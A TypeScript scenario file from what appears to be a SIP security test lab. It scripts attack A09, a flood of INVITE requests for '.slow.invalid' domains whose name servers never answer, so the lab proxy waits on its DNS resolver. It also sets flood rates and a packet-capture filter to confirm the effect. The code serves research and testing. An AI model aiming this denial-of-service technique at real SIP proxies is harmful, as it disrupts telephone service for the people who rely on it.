/** A09 and E0-1: INVITEs for domains whose name servers never answer, one a second, never acknowledged (S0-59, S0-68). */
import type { Intensity, Lab, Scenario } from '../scenario.ts';
import { Attacker, offer } from './senders/attacker.ts';
import { foreignDomain, word } from './senders/names.ts';
import { lasting, play, regular } from './senders/schedule.ts';

async function run(lab: Lab, intensity: Intensity): Promise<void> {
  const random = lab.random.fork('names');
  const address = lab.segment('attack').address();
  const campaign = lab.campaign({
    attack: 'A09',
    classes: ['flood'],
    stage: 'disrupt',
    intensity: intensity.name,
    attackers: [address],
    targets: [lab.site.proxy.address, lab.site.resolver],
  });
  const attacker = await Attacker.open(lab, campaign, lab.segment('attack'), { address });
  const from = `sip:${word(random)}@${foreignDomain(random)}`;
  const offsets = regular(random.fork('times'), intensity.value, Math.max(30, lasting(intensity.value)), 0.05);
  await play(lab, offsets, () => {
    const uri = `sip:${word(random)}@${word(random)}${random.integer(1, 999)}.slow.invalid`;
    attacker.send({ method: 'INVITE', uri, from, callId: attacker.callId(), cseq: 1, body: offer(attacker) }, lab.site.proxy);
  });
  await lab.sleep(3000);
  attacker.close();
  campaign.end('unknown');
}

/** Thirty seconds, as the paper's proxy was down after twenty; the phones of the background show whether ours still serves them. */
export const DNS_FLOOD: Scenario = {
  name: 'invite-flood-dns',
  title: 'INVITEs for domains whose name servers never answer: the proxy waits for its resolver (E0-1)',
  attack: 'A09',
  intensities: [
    { name: '1/s', value: 1 },
    { name: '0.5/s', value: 0.5 },
    { name: '5/s', value: 5 },
  ],
  site: { openRelay: true },
  proof: { filter: '!icmp && sip.Method == "INVITE" && sip.r-uri.host contains ".slow.invalid"' },
  run,
};
